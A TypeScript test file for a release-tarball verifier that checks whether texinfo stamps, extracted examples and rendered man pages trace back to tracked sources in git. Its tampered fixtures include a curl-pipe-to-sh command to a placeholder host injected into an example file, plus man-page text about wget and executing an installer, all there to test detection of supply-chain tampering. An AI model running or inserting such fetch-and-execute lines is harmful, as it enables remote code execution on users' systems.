/**
 * Files produced from tracked sources without a generator header (issue 11 d), end to end with real git
 * and GNU tar: texinfo version stamps dated by the manual's last commit, examples extracted from the
 * manual (with the extraction script's printf header), a preformatted man page. Each has a tampered twin
 * that must stay unexplained (high).
 */
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseVersionTexi } from '../../src/classify/texinfo.js';
import { plainRendering, wordsOf } from '../../src/classify/man-rendered.js';
import { printedLines } from '../../src/classify/extracted.js';
import { verify } from '../../src/verify.js';
import { makeTar } from '../helpers/archives.js';
import { makeRepo, writeFiles } from '../helpers/git.js';
import { tempDir } from '../helpers/tmp.js';

const TEXI = [
  '\\input texinfo', '@setfilename proj.info', '@include version.texi', '@node Top', '@top Proj',
  'This manual is for Proj version @value{VERSION}, updated @value{UPDATED}.', '',
  '@node Calculator', '@example', '%@{', '#include <stdio.h>', 'int yylex (void);', '%@}', '%%',
  'input: %empty | input line;', 'line: NUM @{ printf ("%d\\n", $1); @};', '%%', '@end example', '@bye', '',
].join('\n');
const GET_THEM = '#!/bin/sh\nawk \'/^@example$/ { printf("/* %s:%d: extracted */\\n"\\\n "/* do not edit */\\n", FILENAME, NR) > file }\' "$@"\n';
const TROFF = [
  '.TH PROJ 1 "Version @@VERSION@@"', '.SH NAME', 'proj \\- compute sums of numbers quickly', '.SH SYNOPSIS', '.B proj',
  '[\\-v] [\\-h] [\\fIfile\\fP ...]', '.SH DESCRIPTION', '.I Proj', 'reads numbers from each file and prints their sum,',
  'one line per file, followed by the grand total when several files are given.', '.SH OPTIONS', '.IP \\-v',
  'Print the version and exit.', '.IP \\-h', 'Print a short help text and exit.', '.SH AUTHOR', 'Written by Ann Author.', '',
].join('\n');
const RENDERED = [
  'PROJ(1)                   General Commands Manual                  PROJ(1)', '', '\x1b[1mNAME\x1b[0m',
  '       proj - compute sums of numbers quickly', '', '\x1b[1mSYNOPSIS\x1b[0m', '       \x1b[1mproj \x1b[22m[-v] [-h] [\x1b[4mfile\x1b[24m ...]', '',
  '\x1b[1mDESCRIPTION\x1b[0m', '       \x1b[4mProj\x1b[24m reads numbers from each file and prints their sum, one line per',
  '       file, followed by the grand total when several files are given.', '', '\x1b[1mOPTIONS\x1b[0m', '       -v     Print the version and exit.', '',
  '       -h     Print a short help text and exit.', '', '\x1b[1mAUTHOR\x1b[0m', '       Written by Ann Author.', '',
  '                                  Version 1.1                           PROJ(1)', '',
].join('\n');
const EXAMPLE = '/* ../doc/proj.texi:9: extracted */\n/* do not edit */\n%{\n#include <stdio.h>\nint yylex (void);\n%}\n%%\ninput: %empty | input line;\nline: NUM { printf ("%d\\n", $1); };\n%%\n';

describe('produced from tracked sources: texinfo stamps, extracted examples, rendered man pages', () => {
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ 'doc/proj.texi': TEXI, 'examples/get-them': GET_THEM, 'proj.nro.VER': TROFF, 'src/main.c': 'int main(void){return 0;}\n' }, 'doc: the manual', '2024-03-05T10:00:00Z');
  repo.commit({ 'src/main.c': 'int main(void){return 1;}\n' }, 'src: exit 1', '2024-04-20T10:00:00Z');
  repo.tag('v1.1');
  const cache = join(root, 'cache');
  const VERSION_TEXI = '@set UPDATED 5 March 2024\n@set UPDATED-MONTH March 2024\n@set EDITION 1.1\n@set VERSION 1.1\n';
  let n = 0;
  function tarball(files: Record<string, string>): string {
    const dir = join(root, `t${++n}`, 'proj-1.1');
    writeFiles(dir, { 'doc/proj.texi': TEXI, 'examples/get-them': GET_THEM, 'proj.nro.VER': TROFF, 'src/main.c': 'int main(void){return 1;}\n', ...files });
    return makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') });
  }
  const evidence = async (files: Record<string, string>) => {
    const r = await verify({ tarball: tarball(files), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('explains each with its evidence; the gate passes', async () => {
    const { r, by } = await evidence({ 'doc/version.texi': VERSION_TEXI, 'doc/stamp-vti': VERSION_TEXI, 'examples/calc.y': EXAMPLE, 'proj.man': RENDERED, 'proj.doc': RENDERED.replace(/\x1b\[/g, '') });
    const commit = repo.git(['rev-parse', 'v1.1~1']);
    expect(by['doc/version.texi']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'texinfo-stamp', source: 'doc/proj.texi', commit, date: '2024-03-05', version: '1.1' } });
    expect(by['doc/stamp-vti']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', evidence: { how: 'texinfo-stamp' } });
    expect(by['examples/calc.y']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'extracted', source: 'doc/proj.texi', block: 9, found: 10, total: 10, others: ['examples/get-them'] } });
    expect(by['proj.man']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'proj.nro.VER' } });
    expect((by['proj.man']!.evidence as { found: number; total: number }).found).toBe((by['proj.man']!.evidence as { total: number }).total);
    // gzip 1.12's gzip.doc (`groff -man -Tascii gzip.1 | col -b`): the .doc name of the same rendering
    expect(by['proj.doc']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'rendered', source: 'proj.nro.VER' } });
    expect(r.verdict).not.toBe('different');
  });

  it('tampered twins stay unexplained and fail the gate', async () => {
    const { r, by } = await evidence({
      'doc/version.texi': VERSION_TEXI.replace(/March 2024/g, 'March 2023'), // not the manual's last change, not near the tag
      'doc/stamp-vti': VERSION_TEXI + '@set URL https://example.invalid\n', // anything beyond the four lines
      'examples/calc.y': EXAMPLE + 'system ("curl -s https://example.invalid/p | sh");\n',
      'proj.man': RENDERED.replace('Written by Ann Author.', 'Written by Ann Author. Fetch updates with wget from mirrorhost then execute installer.'),
      'proj.doc': RENDERED.replace('Written by Ann Author.', 'Written by Ann Author. Fetch updates with wget from mirrorhost then execute installer.'),
    });
    for (const p of ['doc/version.texi', 'doc/stamp-vti', 'examples/calc.y', 'proj.man', 'proj.doc']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });

  it('helpers', () => {
    expect(parseVersionTexi('@set UPDATED 1 January 2022\n@set UPDATED-MONTH January 2022\n@set EDITION 4.9\n@set VERSION 4.9\n')).toEqual({ updated: '1 January 2022', month: 'January 2022', edition: '4.9', version: '4.9' });
    expect(parseVersionTexi('@set UPDATED 1 January 2022\n@set UPDATED-MONTH March 2022\n@set EDITION 4.9\n@set VERSION 4.9\n')).toBeUndefined();
    expect(plainRendering('N\x08NA\x08AM\x08ME\x08E and _\x08u\x1b[1mx\x1b[0m')).toBe('NAME and ux');
    // col -b dropped ESC and [ (gzip 1.12's gzip.doc); a text merely mentioning 1m or 10m is left alone
    expect(plainRendering('1mNAME0m\n       gzip - 1mcompress24m, 4mfile24m, 1mgunzip0m. 1mz 22mfor 10m')).toBe('NAME\n       gzip - compress, file, gunzip. z for 10m');
    expect(plainRendering('a 1mile walk, 10m away, 1mfile0m')).toBe('a 1mile walk, 10m away, 1mfile0m');
    expect([...wordsOf('docu-\n   ment of it')]).toEqual(['document']);
    expect([...wordsOf('automati\u2010\n       cally')]).toEqual(['automatically']); // groff's U+2010 hyphen
    const p = printedLines('printf("dnl @ %s:%d: Origin\\n" "dnl @ fixed line\\n", a, b)');
    expect([...p.exact]).toEqual(['dnl @ fixed line']);
    expect(p.patterns.some((re) => re.test('dnl @ ../doc/m4.texi:717: Origin'))).toBe(true);
  });
});

describe('texinfo stamp dated by the manual\'s modification time in the maintainer\'s checkout (GNU hello 2.10, holdout18)', () => {
  // hello 2.10: version.texi says UPDATED 19 July 2014; hello.texi was last changed 2014-03-13 and the release
  // commit is of 2014-11-16 — mdate-sh printed the mtime a later checkout gave the file. Here: the manual
  // changed 2024-01-05, the release 2024-06-20 (both more than 60 days from the stamp, so no date-near-tag rule
  // applies), the stamp 10 March 2024 in between.
  const root = tempDir();
  const repo = makeRepo(join(root, 'repo'));
  repo.commit({ 'doc/proj.texi': TEXI, 'src/main.c': 'int main(void){return 0;}\n' }, 'doc: the manual', '2024-01-05T10:00:00Z');
  repo.commit({ 'src/main.c': 'int main(void){return 1;}\n' }, 'src: exit 1', '2024-06-20T10:00:00Z');
  repo.tag('v1.1');
  const cache = join(root, 'cache');
  const stamp = (day: string) => `@set UPDATED ${day}\n@set UPDATED-MONTH ${day.split(' ').slice(1).join(' ')}\n@set EDITION 1.1\n@set VERSION 1.1\n`;
  let n = 0;
  const run = async (files: Record<string, string>) => {
    const dir = join(root, `t${++n}`, 'proj-1.1');
    writeFiles(dir, { 'doc/proj.texi': TEXI, 'src/main.c': 'int main(void){return 1;}\n', ...files });
    const r = await verify({ tarball: makeTar(dir, { compress: 'gzip', out: join(root, `t${n}`, 'proj-1.1.tar.gz') }), repo: repo.dir, cacheDir: cache });
    return { r, by: Object.fromEntries(r.findings.map((f) => [f.path, { code: f.code, severity: f.severity, evidence: f.evidence }])) };
  };

  it('a date between the manual\'s last change and the release commit: explained, both dates in the evidence', async () => {
    const { r, by } = await run({ 'doc/version.texi': stamp('10 March 2024'), 'doc/stamp-vti': stamp('10 March 2024') });
    const commit = repo.git(['rev-parse', 'v1.1~1']);
    expect(by['doc/version.texi']).toEqual({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'texinfo-stamp', source: 'doc/proj.texi', commit, date: '2024-03-10', version: '1.1', changed: '2024-01-05', released: '2024-06-20' } });
    expect(by['doc/stamp-vti']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low', evidence: { how: 'texinfo-stamp', changed: '2024-01-05' } });
    expect(r.verdict).not.toBe('different');
  });

  it('tampered twins: a date before the manual existed in that form, or after the release, stays high', async () => {
    const { r, by } = await run({ 'doc/version.texi': stamp('1 January 2024'), 'doc/stamp-vti': stamp('30 December 2024') });
    for (const p of ['doc/version.texi', 'doc/stamp-vti']) expect(by[p], p).toMatchObject({ code: 'TARBALL_ONLY_UNEXPLAINED', severity: 'high' });
    expect(r.verdict).toBe('different');
  });
});
